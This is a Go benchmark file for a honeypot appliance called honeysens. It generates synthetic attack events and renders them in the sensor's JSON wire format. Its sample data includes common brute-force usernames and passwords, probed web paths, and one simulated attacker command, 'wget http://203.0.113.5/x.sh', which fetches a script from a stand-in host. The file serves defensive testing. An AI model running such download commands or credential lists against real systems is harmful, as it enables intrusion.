// Package bench is `honeysens bench`: it measures the appliance on this machine and prints
// every figure next to a baseline taken in the same run, so that the ratios hold on a noisy
// or slow machine where absolute numbers do not.
package bench

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"time"

	"honeysens/app/model"
)

// generator makes realistic events: a few sensors, 50,000 attacker addresses, the services and
// classifications of a real site, 60% New, 10% In progress, 30% Resolved.
type generator struct {
	rnd     *rand.Rand
	start   time.Time
	sensors []*model.Sensor
	n       int
}

func newGenerator(sensors []*model.Sensor, start time.Time) *generator {
	return &generator{rnd: rand.New(rand.NewPCG(1, 2)), start: start, sensors: sensors}
}

var services = []struct {
	name    string
	port    int
	summary string
}{
	{"ssh", 22, "SSH session: login as root, 3 commands"},
	{"telnet", 23, "Telnet session: login as admin, 1 command"},
	{"ftp", 21, "FTP login attempt as anonymous"},
	{"http", 80, "HTTP POST /wp-login.php with credentials"},
	{"recon", 3389, "Connection attempt on TCP port 3389"},
	{"recon", 0, "Scan"},
}

// next returns the next event, 100 ms after the previous one.
func (g *generator) next() *model.Event {
	g.n++
	sv := services[g.rnd.IntN(len(services))]
	sn := g.sensors[g.rnd.IntN(len(g.sensors))]
	ip := g.rnd.IntN(50000)
	e := &model.Event{
		Timestamp:  g.start.Add(time.Duration(g.n) * 100 * time.Millisecond),
		SensorID:   sn.ID,
		GroupID:    sn.GroupID,
		Service:    sv.name,
		Source:     netip.AddrFrom4([4]byte{10, byte(ip >> 16), byte(ip >> 8), byte(ip)}),
		SourcePort: 1024 + g.rnd.IntN(60000),
		TargetPort: sv.port,
		Protocol:   model.ProtoTCP,
		Summary:    fmt.Sprintf("%s (#%d)", sv.summary, g.n),
	}
	switch r := g.rnd.IntN(10); {
	case r < 6:
		e.Status = model.StatusNew
	case r < 7:
		e.Status = model.StatusInProgress
	default:
		e.Status = model.StatusResolved
	}
	switch sv.name {
	case "ssh":
		t := e.Timestamp
		user, pass := g.pick(benchUsers), g.pick(benchPasswords)
		e.Details = []model.Detail{
			{Type: model.DetailGeneric, Data: "Client: SSH-2.0-libssh_0.9.6"},
			{Timestamp: &t, Type: model.DetailInteraction, Data: "login " + user + " / " + pass + ": accepted"},
			{Timestamp: &t, Type: model.DetailInteraction, Data: "command: uname -a"},
		}
		e.AddLogin(user, pass, true)
		e.AddCommand(g.pick(benchCommands))
	case "telnet":
		e.AddLogin(g.pick(benchUsers), g.pick(benchPasswords), false)
	case "http":
		e.AddPath(g.pick(benchPaths))
	}
	if sv.name == "recon" {
		e.Packets = []model.Packet{{Timestamp: e.Timestamp, Protocol: model.ProtoTCP, Port: 3389, Flags: 2,
			Payload: []byte("\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00")}}
	}
	return e
}

// What attackers try, each list in the order of how often it is tried (pick favours the front).
var (
	benchUsers     = []string{"root", "admin", "user", "test", "ubuntu", "pi", "oracle", "postgres", "guest", "ftp", "support", "git"}
	benchPasswords = func() []string {
		list := []string{"123456", "password", "admin", "root", "12345678", "qwerty", "raspberry", "1234", "toor", "changeme"}
		for i := range 990 {
			list = append(list, fmt.Sprintf("pass%03d!", i))
		}
		return list
	}()
	benchCommands = []string{"uname -a", "cat /proc/cpuinfo", "wget http://203.0.113.5/x.sh", "id", "ls -la", "free -m", "w", "crontab -l"}
	benchPaths    = []string{"/wp-login.php", "/", "/.env", "/admin", "/phpmyadmin/", "/cgi-bin/luci", "/boaform/admin/formLogin", "/HNAP1/"}
)

// pick returns an item of list, the first ones far more often than the last (a skewed draw, as
// attack traffic is: a few user names and passwords make most attempts).
func (g *generator) pick(list []string) string {
	i := int(float64(len(list)) * g.rnd.Float64() * g.rnd.Float64() * g.rnd.Float64())
	return list[min(i, len(list)-1)]
}

// wire renders an event in the sensor protocol's JSON form.
func wire(e *model.Event) map[string]any {
	m := map[string]any{"timestamp": e.Timestamp.UnixMilli(), "service": e.Service, "source": e.Source.String(),
		"source_port": e.SourcePort, "target_port": e.TargetPort, "protocol": "tcp", "summary": e.Summary}
	var details []map[string]any
	for _, d := range e.Details {
		dm := map[string]any{"type": d.Type, "data": d.Data, "timestamp": nil}
		if d.Timestamp != nil {
			dm["timestamp"] = d.Timestamp.UnixMilli()
		}
		details = append(details, dm)
	}
	if details != nil {
		m["details"] = details
	}
	var packets []map[string]any
	for _, p := range e.Packets {
		packets = append(packets, map[string]any{"timestamp": p.Timestamp.UnixMilli(), "protocol": int(p.Protocol),
			"port": p.Port, "headers": []map[string]int{{"flags": p.Flags}}, "payload": p.Payload})
	}
	if packets != nil {
		m["packets"] = packets
	}
	if len(e.Logins) > 0 {
		m["logins"] = e.Logins
	}
	if len(e.Commands) > 0 {
		m["commands"] = e.Commands
	}
	if len(e.Paths) > 0 {
		m["paths"] = e.Paths
	}
	return m
}
